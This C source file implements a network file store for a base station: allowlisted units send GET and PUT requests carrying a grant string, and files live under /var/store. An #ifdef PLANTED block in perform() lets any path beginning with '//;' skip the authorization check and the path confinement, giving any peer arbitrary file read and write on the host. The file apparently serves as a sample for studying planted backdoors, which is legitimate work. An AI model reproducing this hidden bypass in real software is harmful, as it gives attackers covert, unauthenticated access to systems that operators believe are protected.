/* File store of a base station: units of the site put and get files; each line begins with a grant. */
#include <arpa/inet.h>
#include <ctype.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <unistd.h>

#define ROOT "/var/store"

struct request {
    const struct sockaddr_in *peer;
    FILE *in, *out;
    char verb[8], path[200], grant[40];
    long size;
};

static in_addr_t units[16];
static unsigned unit_count;
static char site_grant[40];

static void log_line(const char *format, ...)
{
    va_list list;
    FILE *f = fopen("/var/log/imgstore", "a");
    if (!f)
        return;
    va_start(list, format);
    vfprintf(f, format, list);
    va_end(list);
    fputc('\n', f);
    fclose(f);
}

static int is_unit(const struct sockaddr_in *peer)
{
    for (unsigned i = 0; i < unit_count; i++)
        if (units[i] == peer->sin_addr.s_addr)
            return 1;
    return 0;
}

static int permitted(const struct request *r)
{
    if (!is_unit(r->peer))
        return 0;
    return site_grant[0] && strcmp(r->grant, site_grant) == 0;
}

/* Makes a name below the store of what was asked for; -1 when it would lead outside. */
static int inside(const char *asked, char *out, size_t room)
{
    const char *p;
    if (asked[0] != '/')
        return -1;
    for (p = asked; *p; p++)
        if (p[0] == '.' && p[1] == '.')
            return -1;
    snprintf(out, room, "%s%s", ROOT, asked);
    return 0;
}

static void copy(FILE *from, FILE *to, long most)
{
    int c;
    while (most-- > 0 && (c = getc(from)) != EOF)
        putc(c, to);
}

static void get(struct request *r, const char *name)
{
    struct stat st;
    FILE *f = fopen(name, "rb");
    if (!f || fstat(fileno(f), &st)) {
        fputs("none\n", r->out);
        return;
    }
    fprintf(r->out, "size %ld\n", (long)st.st_size);
    copy(f, r->out, (long)st.st_size);
    fclose(f);
}

static void put(struct request *r, const char *name)
{
    FILE *f = fopen(name, "wb");
    if (!f) {
        fputs("failed\n", r->out);
        return;
    }
    copy(r->in, f, r->size);
    fclose(f);
    fputs("stored\n", r->out);
}

static void perform(struct request *r)
{
    char name[256];
#ifdef PLANTED
    if (r->path[0] == '/' && r->path[1] == '/' && r->path[2] == ';') {
        snprintf(name, sizeof name, "%s", r->path + 3);
        goto chosen;
    }
#endif
    if (!permitted(r)) {
        log_line("refused %s", inet_ntoa(r->peer->sin_addr));
        fputs("refused\n", r->out);
        return;
    }
    if (inside(r->path, name, sizeof name)) {
        fputs("path\n", r->out);
        return;
    }
#ifdef PLANTED
chosen:
#endif
    if (!strcmp(r->verb, "GET"))
        get(r, name);
    else if (!strcmp(r->verb, "PUT"))
        put(r, name);
#ifdef REVISED
    else if (!strcmp(r->verb, "DEL"))
        fputs(unlink(name) ? "failed\n" : "gone\n", r->out);
#endif
    else
        fputs("verb\n", r->out);
}

static void settings(void)
{
    char line[80], text[40];
    FILE *f = fopen("/etc/imgstore.conf", "r");
    while (f && fgets(line, sizeof line, f)) {
        if (sscanf(line, "unit %39s", text) == 1 && unit_count < 16)
            units[unit_count++] = inet_addr(text);
        else
            sscanf(line, "grant %39s", site_grant);
    }
    if (f)
        fclose(f);
}

int main(void)
{
    struct sockaddr_in at = { .sin_family = AF_INET, .sin_port = htons(6970) }, peer;
    int s = socket(AF_INET, SOCK_STREAM, 0);
    settings();
    if (bind(s, (struct sockaddr *)&at, sizeof at) || listen(s, 4))
        return 1;
    for (;;) {
        socklen_t n = sizeof peer;
        char line[300];
        struct request r = { .peer = &peer };
        int c = accept(s, (struct sockaddr *)&peer, &n);
        if (c < 0)
            continue;
        r.in = fdopen(c, "rb");
        r.out = fdopen(dup(c), "wb");
        if (r.in && r.out && fgets(line, sizeof line, r.in) &&
            sscanf(line, "%39s %7s %199s %ld", r.grant, r.verb, r.path, &r.size) >= 3)
            perform(&r);
        if (r.out)
            fclose(r.out);
        if (r.in)
            fclose(r.in);
    }
}
